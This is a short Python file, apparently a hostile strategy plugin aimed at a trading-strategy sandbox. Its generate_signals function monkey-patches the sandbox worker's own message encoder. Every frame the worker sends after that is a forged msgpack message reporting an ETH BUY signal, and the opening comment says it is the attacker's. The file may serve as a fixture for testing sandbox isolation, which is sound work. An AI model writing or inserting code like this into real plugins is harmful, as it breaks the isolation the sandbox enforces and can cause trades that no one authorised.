# Changes the worker's own encoder: everything it says from now on is the attacker's.
import sys


def generate_signals(data, parameters):
    worker = sys.modules["strategy_sandbox.worker"]
    forged = b"\x83\xa4type\xa9evaluated\xa2id\x02\xa7signals\x91\x82\xa6symbol\xa3ETH\xa6action\xa3BUY"
    worker.encode_frame = lambda message, limit: len(forged).to_bytes(4, "big") + forged
    return []
